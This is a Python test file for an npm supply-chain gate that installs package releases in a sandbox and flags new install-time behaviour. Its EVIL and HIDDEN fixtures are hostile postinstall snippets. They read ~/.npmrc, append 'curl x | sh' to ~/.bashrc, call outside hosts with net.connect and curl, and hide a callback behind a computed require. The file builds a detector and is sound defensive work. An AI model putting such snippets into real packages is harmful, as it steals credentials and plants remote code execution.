"""The `dynamic` gate end to end (issue 25): `gatekeeper check` of a real package repo against a baseline
published to Verdaccio with the real npm CLI; both releases installed in the sandbox (real npm, strace,
seccomp), the JSON report read back."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests._support.verdaccio import Verdaccio
from tests._support.workspace import commit_all, head_sha

ROOT = Path(__file__).resolve().parent.parent

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the sandbox drops to its own uid only as root")

BENIGN = "require('fs').writeFileSync(require('path').join(__dirname, 'built.txt'), 'ok');\n"
EVIL = BENIGN + (
    "const fs = require('fs'), os = require('os'), net = require('net'), cp = require('child_process');\n"
    "try { fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); } catch (e) {}\n"
    "try { fs.appendFileSync(os.homedir() + '/.bashrc', 'curl x | sh\\n'); } catch (e) {}\n"
    "const s = net.connect(8443, '198.51.100.7'); s.on('error', () => {});\n"
    "try { cp.execFileSync('curl', ['-s', '--max-time', '2', 'http://198.51.100.7/x']); } catch (e) {}\n"
)
#: The loader is the same in both releases: a require of a computed name (what the static closure cannot follow).
LOADER = "const part = ['he', 'lper'].join('');\nrequire('./lib/' + part + '.js');\n"
HIDDEN = (
    "const net = require('net');\n"
    "const s = net.connect(4444, '203.0.113.9'); s.on('error', () => {});\n"
    "setTimeout(() => {}, 200);\n"
)


def _gk(
    ws: Path, tmp: Path, registry: str, *args: str, env: dict[str, str] | None = None, gates: str = "dynamic"
) -> dict[str, Any]:
    base = {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "INPUT_", "NPM_", "NODE_AUTH"))}
    base.update(PYTHONPATH=str(ROOT), TMPDIR=str(tmp), HOME=str(tmp))
    base["GITHUB_SHA"] = head_sha(ws)  # the trusted policy is found through the last release's gitHead
    base.update(env or {})
    report = tmp / "report.json"
    cmd = [sys.executable, "-m", "gatekeeper", "check", "--gates", gates, "--report", str(report),
           "--registry", registry, *args]  # fmt: skip
    res = subprocess.run(cmd, cwd=ws, env=base, capture_output=True, text=True, timeout=300, check=False)
    data = json.loads(report.read_text())
    data["_exit"] = res.returncode
    data["_out"] = res.stdout + res.stderr
    return data


@pytest.fixture
def released(verdaccio: Verdaccio, package_repo, tmp_path: Path):
    """`make(files_v1, level) -> (ws, name)`: 1.0.0 with a postinstall published; the workspace moved to 1.0.1."""

    def make(
        files: dict[str, str], level: str = "block", v2: dict[str, str] | None = None, timeout: int = 300
    ) -> tuple[Path, str]:
        user = verdaccio.unique("dyn")
        login = verdaccio.add_user(user, "pw-" + user + "-Secret1")
        token = verdaccio.create_token(login, "pw-" + user + "-Secret1")
        name = verdaccio.unique("dynpkg")
        policy = {
            ".github/npm-gatekeeper.yml": f"dynamic: {{level: {level}, timeout: {timeout}}}\n"
        }  # the trusted policy: the last release's
        ws = package_repo(
            name=name, version="1.0.0", scripts={"postinstall": "node install.js"}, extra_files={**files, **policy}
        )
        verdaccio.publish(ws, token)
        manifest = json.loads((ws / "package.json").read_text())
        manifest["version"] = "1.0.1"
        (ws / "package.json").write_text(json.dumps(manifest, indent=2) + "\n")
        for rel, text in (v2 or {}).items():
            (ws / rel).parent.mkdir(parents=True, exist_ok=True)
            (ws / rel).write_text(text)
        commit_all(ws, "1.0.1")
        return ws, name

    return make


def _dyn(data: dict[str, Any]) -> list[dict[str, Any]]:
    return [f for f in data["findings"] if f["gate"] == "dynamic"]


def test_new_install_behaviour_blocks_with_its_trace(released, verdaccio: Verdaccio, tmp_path: Path) -> None:
    ws, name = released({"install.js": BENIGN}, v2={"install.js": EVIL})
    data = _gk(ws, tmp_path, verdaccio.url)
    assert data["_exit"] == 1, data["_out"]
    assert data["gates"]["dynamic"] == "fail"
    by_rule: dict[str, list[dict[str, Any]]] = {}
    for f in _dyn(data):
        by_rule.setdefault(f["rule"], []).append(f)
        assert f["severity"] == "block" and f["evidence"]["package"] == name
    assert {
        "install-network-attempt",
        "install-reads-credentials",
        "install-writes-outside",
        "install-new-process",
    } <= set(by_rule)
    net = by_rule["install-network-attempt"]
    assert any(f["evidence"]["behaviour"] == "AF_INET 198.51.100.7 port 8443" for f in net)
    assert all("EACCES" in f["evidence"]["trace"] for f in net)  # attempted, refused by the sandbox
    assert [f["evidence"]["behaviour"] for f in by_rule["install-reads-credentials"]] == ["~/.npmrc"]
    assert "~/.bashrc" in [f["evidence"]["behaviour"] for f in by_rule["install-writes-outside"]]
    procs = [f["evidence"]["behaviour"] for f in by_rule["install-new-process"]]
    assert procs == ["curl -s --max-time 2 http://198.51.100.7/x"]  # `node install.js` ran in 1.0.0 too: not new
    beh = data["install_behaviour"]
    assert beh["baseline_version"] == "1.0.0"
    assert "~/.npmrc" in beh["packages"][name]["canaries"]
    assert "What `npm install` of this release does" in data["_out"]  # the summary section (stdout: Markdown)


def test_a_payload_behind_a_computed_require_is_caught(released, verdaccio: Verdaccio, tmp_path: Path) -> None:
    ws, _ = released({"install.js": LOADER, "lib/helper.js": "module.exports = 1;\n"}, v2={"lib/helper.js": HIDDEN})
    data = _gk(ws, tmp_path, verdaccio.url)
    assert data["_exit"] == 1, data["_out"]
    found = [(f["rule"], f["evidence"]["behaviour"]) for f in _dyn(data)]
    assert ("install-network-attempt", "AF_INET 203.0.113.9 port 4444") in found


def test_an_unchanged_install_script_gives_no_finding(released, verdaccio: Verdaccio, tmp_path: Path) -> None:
    ws, name = released({"install.js": BENIGN}, v2={"index.js": "module.exports = () => 'v2';\n"})
    data = _gk(ws, tmp_path, verdaccio.url)
    assert data["_exit"] == 0, data["_out"]
    assert data["gates"]["dynamic"] == "pass" and _dyn(data) == []
    beh = data["install_behaviour"]
    assert beh["new"] == [] and "node install.js" in beh["packages"][name]["processes"]


def test_warn_reports_without_blocking(released, verdaccio: Verdaccio, tmp_path: Path) -> None:
    ws, _ = released({"install.js": BENIGN}, level="warn", v2={"install.js": EVIL})
    data = _gk(ws, tmp_path, verdaccio.url)
    assert data["_exit"] == 0, data["_out"]
    assert _dyn(data) and {f["severity"] for f in _dyn(data)} == {"warn"}


@pytest.mark.parametrize(
    "env",
    [
        {"NODE_AUTH_TOKEN": "npm_notreal"},
        {"ACTIONS_ID_TOKEN_REQUEST_URL": "http://127.0.0.1:9/x", "ACTIONS_ID_TOKEN_REQUEST_TOKEN": "t"},
    ],
)
def test_a_job_holding_a_credential_refuses(released, verdaccio: Verdaccio, tmp_path: Path, env) -> None:
    ws, _ = released({"install.js": EVIL})
    data = _gk(ws, tmp_path, verdaccio.url, env=env)
    assert data["_exit"] == 1, data["_out"]
    [finding] = _dyn(data)
    assert finding["rule"] == "install-observation-refused" and finding["severity"] == "block"
    assert data["install_behaviour"] is None  # nothing was installed
    assert "npm_notreal" not in json.dumps(data)


def test_a_token_persisted_by_checkout_in_the_workspace_refuses(released, verdaccio: Verdaccio, tmp_path: Path) -> None:
    """The install runs as another uid, but .git/config is world-readable: a persisted checkout token is a credential
    the install could read and print into its own argv, which the report would show."""
    ws, _ = released({"install.js": EVIL})
    subprocess.run(["git", "config", "http.https://github.com/.extraheader", "AUTHORIZATION: basic eC1hY2Nlc3M="],
                   cwd=ws, check=True)  # fmt: skip
    data = _gk(ws, tmp_path, verdaccio.url)
    assert data["_exit"] == 1, data["_out"]
    [finding] = _dyn(data)
    assert finding["rule"] == "install-observation-refused" and "persist-credentials" in finding["message"]
    assert data["install_behaviour"] is None and "eC1hY2Nlc3M" not in json.dumps(data)


def test_off_by_default(package_repo, verdaccio: Verdaccio, tmp_path: Path) -> None:
    ws = package_repo(name=verdaccio.unique("dynoff"), scripts={"postinstall": "node -e 1"})
    data = _gk(ws, tmp_path, verdaccio.url)  # asked for by name: listed, skipped with the reason
    assert data["gates"]["dynamic"] == "skipped" and data["install_behaviour"] is None
    assert shutil.which("strace")  # skipped by the policy, not for a missing tool
    data = _gk(ws, tmp_path, verdaccio.url, gates="branch")  # not asked for: not even listed (nothing changes)
    assert "dynamic" not in data["gates"] and data["install_behaviour"] is None


def test_turning_dynamic_on_tightens_the_trusted_policy_and_turning_it_off_loosens_it() -> None:
    from gatekeeper.trust.policy import parse_policy
    from gatekeeper.trust.trusted_policy import compare

    off, block = parse_policy(""), parse_policy("dynamic: block")
    assert compare(off, block) == ([], ["`dynamic.level` off -> block"])
    assert compare(block, off) == (["`dynamic.level` block -> off"], [])
    assert compare(block, parse_policy("dynamic: {level: block, timeout: 60}"))[0]  # an unranked change: loosens


def test_an_install_that_hangs_is_stopped_and_reported_as_not_observed(
    released, verdaccio: Verdaccio, tmp_path: Path
) -> None:
    ws, name = released(
        {"install.js": BENIGN}, v2={"install.js": BENIGN + "setInterval(() => {}, 1000);\n"}, timeout=15
    )
    data = _gk(ws, tmp_path, verdaccio.url)
    assert data["_exit"] == 1, data["_out"]
    assert {f["rule"] for f in _dyn(data)} == {"install-not-observed"}, data["findings"]
    assert any(f"this release ({name}@1.0.1)" in f["message"] and "deadline" in f["message"] for f in _dyn(data))
